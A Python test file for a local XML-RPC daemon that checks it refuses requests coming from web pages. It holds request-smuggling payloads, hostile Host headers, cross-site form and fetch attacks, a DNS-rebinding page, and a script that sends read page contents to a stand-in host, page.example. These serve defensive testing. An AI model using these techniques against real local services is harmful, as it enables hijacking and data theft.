#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A web page is not a controller: what browsers send is refused, by hand and by a real browser."""
import http.client
import http.server
import json
import os
import re
import shutil
import socket
import threading
import urllib.parse
import xmlrpc.client

from flowrig_test import (FLOWCTL, Daemon, Process, Skip, at_end, case, main, need_root, note,
                          temp_dir, wait_for)

OPEN = xmlrpc.client.dumps(({"key": "page"},), "session.open").replace("\n", "")
CLOCK = xmlrpc.client.dumps(({},), "flowd.clock")
XML = ("Content-Type", "text/xml")


def ask(daemon, *headers, body=CLOCK, host=None, version="HTTP/1.1"):
    """Status and body of the answer to a request with exactly these headers, besides Host and
    Content-Length. `host` False: without Host."""
    host = daemon.control if host is None else host
    lines = [f"POST /RPC2 {version}"] + ([f"Host: {host}"] if host is not False else [])
    lines += [f"{name}: {value}" for name, value in headers]
    if not any(name in ("Content-Length", "Transfer-Encoding") for name, _ in headers):
        lines.append(f"Content-Length: {len(body)}")
    with socket.create_connection((daemon.host, daemon.port), 20) as peer:
        peer.settimeout(30)
        peer.sendall(("\r\n".join(lines) + "\r\n\r\n" + body).encode())
        answer = http.client.HTTPResponse(peer)
        answer.begin()
        text = answer.read().decode()
        return answer.status, text, answer.getheader("Connection")


def expect_status(status, daemon, *headers, **keywords):
    found = ask(daemon, *headers, **keywords)
    assert found[0] == status, (status, headers, keywords, found)
    return found


@case
def browsers_are_known_by_their_headers():
    """Origin and Sec-Fetch-*: status 403, and nothing is carried out"""
    daemon = Daemon()
    for header in (("Origin", "http://example.com"), ("origin", "null"), ("ORIGIN", f"http://{daemon.control}"),
                   ("Sec-Fetch-Site", "same-origin"), ("sec-fetch-mode", "no-cors"),
                   ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Storage-Access", "none")):
        for more in ((), (("Sec-Flowrig", "x"),)):
            expect_status(403, daemon, XML, header, *more, body=OPEN)
    assert "web pages may not call this daemon" in expect_status(403, daemon, ("Origin", "a"))[1]
    assert daemon.rpc().flowd.status({}).get("sessions", []) == []
    expect_status(200, daemon, XML)


@case
def calls_are_xml():
    """Another Content-Type than text/xml or application/xml, or none: status 415"""
    daemon = Daemon()
    for kind in ("text/plain", "text/plain;charset=UTF-8", "application/x-www-form-urlencoded",
                 "multipart/form-data; boundary=x", "text/xmlx", "text/html; text/xml", "xml", "",
                 "application/octet-stream", "text/plain, text/xml"):
        expect_status(415, daemon, ("Content-Type", kind), body=OPEN)
    expect_status(415, daemon, body=OPEN)
    for kind in ("text/xml", "application/xml", "text/xml; charset=utf-8", "Text/XML;charset=utf-8",
                 "application/xml ; a=b"):
        assert "<name>sent</name>" in expect_status(200, daemon, ("Content-Type", kind))[1]
    assert daemon.rpc().flowd.status({}).get("sessions", []) == []


@case
def hosts_that_are_not_this_one():
    """Host: addresses, localhost, the host's name and those of -b are taken, others get status 421"""
    daemon = Daemon("-b", "localhost", "--no-auth")
    port = daemon.port
    own = socket.gethostname()
    for host in ("evil.example", f"evil.example:{port}", "localhost.evil.example", "127.0.0.1.evil.example",
                 own + ".evil.example", "evil.example.", "[evil]", "a b", "", "localhost@evil.example"):
        expect_status(421, daemon, XML, body=OPEN, host=host)
    for host in ("127.0.0.1", f"127.0.0.1:{port}", "[::1]", f"[::1]:{port}", "localhost", "LocalHost:1",
                 "localhost.", own, f"{own.upper()}:{port}", own.split(".")[0], "10.1.2.3"):
        expect_status(200, daemon, XML, host=host)
    # What no browser does, and what no page can make one do.
    expect_status(200, daemon, XML, host=False, version="HTTP/1.0")
    expect_status(200, daemon, XML, ("Sec-Flowrig", "flowctl"), host="another.name")
    assert daemon.rpc().flowd.status({}).get("sessions", []) == []


@case
def hosts_by_the_names_of_b():
    """A name that -b gives is one of the host's; flowctl gets through under any"""
    need_root()
    etc = temp_dir()
    with open(os.path.join(etc, "hosts"), "w", encoding="ascii") as file:
        file.write("127.0.0.1 localhost lab-one alias-of-it\n")
    # Names of a hosts file of their own.
    wrap = ["unshare", "-m", "sh", "-c", f'mount --bind {etc}/hosts /etc/hosts && exec "$@"', "sh"]
    daemon = Daemon("-b", "lab-one", "--no-auth", wrap=wrap)
    expect_status(200, daemon, XML, host=f"lab-one:{daemon.port}")
    expect_status(421, daemon, XML, host=f"alias-of-it:{daemon.port}")
    process = Process(wrap + [FLOWCTL, "status",
                              f"alias-of-it:{daemon.port}"])
    assert process.wait() == 0, process.err


@case
def lengths_that_can_be_read_in_two_ways():
    """Two lengths, a length beside a coding, two hosts: status 400, and the connection ends"""
    daemon = Daemon()
    size = str(len(CLOCK))
    for headers in ((("Content-Length", size), ("Content-Length", size)),
                    (("Content-Length", size), ("Content-Length", "3")),
                    (("Content-Length", size), ("Transfer-Encoding", "chunked")),
                    (("Transfer-Encoding", "chunked"), ("Content-Length", size)),
                    (("Host", "localhost"),), (XML,)):
        chunked = any(name == "Transfer-Encoding" for name, _ in headers)
        body = f"{len(CLOCK):x}\r\n{CLOCK}\r\n0\r\n\r\n" if chunked else CLOCK
        found = expect_status(400, daemon, XML, *headers, body=body)
        assert (found[2] or "").lower() == "close", (headers, found)
    expect_status(200, daemon, XML)


@case
def requests_in_one_another():
    """A request hidden in the body of another one is not carried out, whatever its framing"""
    daemon = Daemon()
    inner = (f"POST /RPC2 HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/xml\r\nContent-Length: {len(OPEN)}"
             f"\r\n\r\n{OPEN}")
    for head, body in (("Content-Length: 4\r\nTransfer-Encoding: chunked", "0\r\n\r\n" + inner),
                       ("Transfer-Encoding: chunked\r\nContent-Length: 4", "0\r\n\r\n" + inner),
                       (f"Content-Length: 0\r\nContent-Length: {len(inner)}", inner),
                       (f"Content-Length: {len(inner)}\r\nContent-Length: 0", inner)):
        with socket.create_connection((daemon.host, daemon.port), 20) as peer:
            peer.settimeout(5)
            peer.sendall(f"POST /RPC2 HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/xml\r\n{head}\r\n\r\n{body}"
                         .encode())
            answers = b""
            try:
                while part := peer.recv(65536):
                    answers += part
            except (socket.timeout, ConnectionError):
                pass
        assert answers.count(b"HTTP/1.1 ") <= 1 and b" 200 " not in answers, (head, answers)
    assert daemon.rpc().flowd.status({}).get("sessions", []) == []


# ---- a real browser

FORM = """<form id=f%(n)d method=post enctype=text/plain target=%(target)s action='%(url)s'>
<input type=hidden name='%(name)s' value='%(value)s'></form>"""


def form(number, target, url):
    """A form whose text/plain body, "name=value", is a call of session.open."""
    name, _, value = OPEN.partition("=")
    value = value.replace("'", "&#39;")
    return FORM % {"n": number, "target": target, "url": url, "name": name, "value": value}


SAY = """<script>
function say(x) { new Image().src = 'http://page.example:%d/say?' + encodeURIComponent(x); }
function read(w, name) { try { say(name + ' reads ' + w.document.documentElement.outerHTML); }
                         catch (e) { say(name + ' may not read'); } }
</script>"""


class Pages:
    """A web site of one page; what the page says to it is kept."""

    def __init__(self, page, port=0):
        self.said, self.served = [], 0
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                said = self.path.startswith("/say?")
                if said:
                    site.said.append(urllib.parse.unquote(self.path[5:]))
                site.served += self.path == "/"
                body = b"" if said or self.path != "/" else site.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self.server.server_address[1]
        self.page = page
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        at_end(self.stop)

    def stop(self):
        if self.server:
            self.server.shutdown()
            self.server.server_close()
            self.server = None


def browse(url):
    """A real browser at a page. What Chromium itself keeps pages from doing to addresses of the own
    host is turned off: other browsers do not have it."""
    program = shutil.which("chromium") or shutil.which("chromium-browser") or \
        shutil.which("google-chrome")
    if not program:
        raise Skip("chromium is not installed")
    home = temp_dir()
    return Process([program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                    "--no-first-run", "--disable-background-networking", "--disable-component-update",
                    "--disable-sync", "--disable-popup-blocking", "--disable-dev-shm-usage",
                    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
                    "--host-resolver-rules=MAP *.example 127.0.0.1", f"--user-data-dir={home}", url],
                   env={"HOME": home})


def refusals(daemon):
    return len(re.findall(r"http: refused \S+: (?:403|415|421) ", daemon.err))


def check_untouched(daemon):
    assert "session.open" not in daemon.err, daemon.err
    assert daemon.rpc().flowd.status({}).get("sessions", []) == []


@case
def pages_of_others():
    """Chromium: form, fetch, sendBeacon, iframe and popup of another site reach the daemon, and are refused"""
    daemon = Daemon(level="debug")
    url = f"http://{daemon.control}/RPC2"
    site = Pages("")
    site.page = (SAY % site.port) + "<iframe name=i id=i></iframe>" + form(1, "i", url) + \
        form(2, "w", url) + """<script>
const call = %s, url = %s;
setTimeout(() => {
    f1.submit();
    let w = window.open('about:blank', 'w'); f2.submit();
    fetch(url, {method: 'POST', mode: 'no-cors', body: call}).then(() => say('fetch done'), () => say('fetch failed'));
    fetch(url, {method: 'POST', mode: 'no-cors', body: new Blob([call])}).then(() => 0, () => 0);
    say('beacon ' + navigator.sendBeacon(url, call));
}, 200);
</script>""" % (json.dumps(OPEN).replace("</", "<\\/"), json.dumps(url))
    browser = browse(f"http://page.example:{site.port}/")
    wait_for(lambda: refusals(daemon) >= 5, 60, "all that the page asks for")
    browser.kill()
    note(f"{refusals(daemon)} requests refused; the page: {site.said}")
    assert not any("methodResponse" in line or "<name>session" in line for line in site.said)
    check_untouched(daemon)


@case
def page_that_is_rebound():
    """Chromium: a page whose name becomes the daemon's address can neither call it nor read an answer"""
    site = Pages("")
    own = Pages("")
    site.page = (SAY % own.port) + "<iframe name=i id=i></iframe>" + form(1, "i", "/RPC2") + \
        form(2, "w", "/RPC2") + """<script>
const call = %s;
async function go() {
    for (;;) {  // until the site is gone and the daemon is there
        try { if ((await fetch('/nothing', {cache: 'no-store'})).status == 404) break; } catch (e) {}
        await new Promise(done => setTimeout(done, 200));
    }
    for (const type of ['text/plain', 'text/xml'])
        await fetch('/RPC2', {method: 'POST', body: call, headers: {'Content-Type': type}})
            .then(r => r.text()).then(t => say('fetch reads ' + t), e => say('fetch failed'));
    await fetch('/RPC2', {method: 'POST', body: call, headers: {'Content-Type': 'text/xml', 'Sec-Flowrig': 'x'}})
        .then(r => r.text()).then(t => say('header reads ' + t), e => say('header failed'));
    let w = window.open('about:blank', 'w'); f1.submit(); f2.submit();
    setTimeout(() => { read(i.contentWindow, 'iframe'); if (w) read(w, 'popup'); say('end'); }, 2000);
}
go();
</script>""" % json.dumps(OPEN).replace("</", "<\\/")
    browser = browse(f"http://page.example:{site.port}/")
    wait_for(lambda: site.served, 60, "that the page is there")
    site.stop()
    daemon = Daemon(port=site.port, level="debug")
    wait_for(lambda: "end" in own.said, 90, f"the page's end: {own.said}")
    browser.kill()
    note(f"{refusals(daemon)} requests refused; the page: {own.said}")
    assert refusals(daemon) >= 5, daemon.err
    assert "fetch reads web pages may not call this daemon\n" in own.said, own.said
    assert not any("methodResponse" in line or "<name>session" in line for line in own.said)
    check_untouched(daemon)


main()
